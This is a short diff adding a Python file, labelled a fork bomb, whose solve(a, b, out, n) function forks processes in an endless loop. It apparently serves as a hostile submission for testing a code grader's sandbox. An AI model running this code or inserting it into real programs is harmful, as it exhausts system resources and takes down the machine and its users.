@@ -1,0 +1,8 @@
+"""A fork bomb."""
+
+import os
+
+
+def solve(a, b, out, n):
+    while True:
+        os.fork()
